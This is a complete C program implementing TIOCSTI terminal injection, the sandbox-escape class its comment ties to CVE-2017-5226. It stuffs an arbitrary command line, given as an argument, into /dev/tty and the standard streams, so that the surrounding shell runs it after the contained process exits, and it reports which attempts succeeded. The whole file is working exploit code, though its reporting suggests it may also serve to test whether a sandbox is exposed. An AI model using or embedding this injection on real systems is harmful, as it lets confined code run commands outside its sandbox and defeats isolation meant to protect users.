/* Terminal injection (CVE-2017-5226 class): pushes a command line into whatever terminal it can
 * reach with ioctl(TIOCSTI): /dev/tty, then stdin, stdout and stderr. A shell reading that
 * terminal runs the line once the contained process is gone. Prints what each attempt got. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(const char *what, int fd, const char *line) {
    for (const char *p = line; *p; p++) {
        if (ioctl(fd, TIOCSTI, p) != 0) {
            printf("%s: %s\n", what, strerror(errno));
            return;
        }
    }
    printf("%s: INJECTED\n", what);
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: tty_inject 'command line'\n");
        return 2;
    }
    char line[4096];
    snprintf(line, sizeof line, "%s\n", argv[1]);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) {
        printf("/dev/tty: open: %s\n", strerror(errno));
    } else {
        inject("/dev/tty", tty, line);
        close(tty);
    }
    inject("stdin", 0, line);
    inject("stdout", 1, line);
    inject("stderr", 2, line);
    fflush(stdout);
    return 0;
}
